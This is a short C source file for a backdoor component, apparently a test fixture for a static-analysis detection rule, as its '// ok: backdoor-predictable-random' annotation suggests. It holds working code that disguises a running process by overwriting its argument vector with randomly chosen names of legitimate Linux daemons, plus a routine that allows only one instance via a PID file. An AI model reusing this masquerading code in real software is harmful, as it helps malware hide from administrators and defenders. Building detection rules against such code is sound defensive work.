#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/prctl.h>
#include <sys/stat.h>

#include "bd.h"

static const char *const kNames[] = {
    "/sbin/udevd -d",
    "/sbin/mingetty /dev/tty7",
    "/usr/sbin/console-kit-daemon --no-daemon",
    "/usr/libexec/postfix/master",
    "avahi-daemon: chroot helper",
};

void bd_masquerade(int argc, char **argv)
{
    srand((unsigned)time(NULL));
    // ok: backdoor-predictable-random
    const char *name = kNames[rand() % (int)(sizeof kNames / sizeof kNames[0])];
    size_t room = 0;
    for (int i = 0; i < argc; i++)
        room += strlen(argv[i]) + 1;
    memset(argv[0], 0, room);
    strncpy(argv[0], name, room - 1);
    prctl(PR_SET_NAME, (unsigned long)name, 0, 0, 0);
}

int bd_single_instance(void)
{
    int fd = open(BD_PID_FILE, O_CREAT | O_EXCL | O_WRONLY, 0644);
    if (fd < 0)
        return -1;
    dprintf(fd, "%d", (int)getpid());
    close(fd);
    return 0;
}
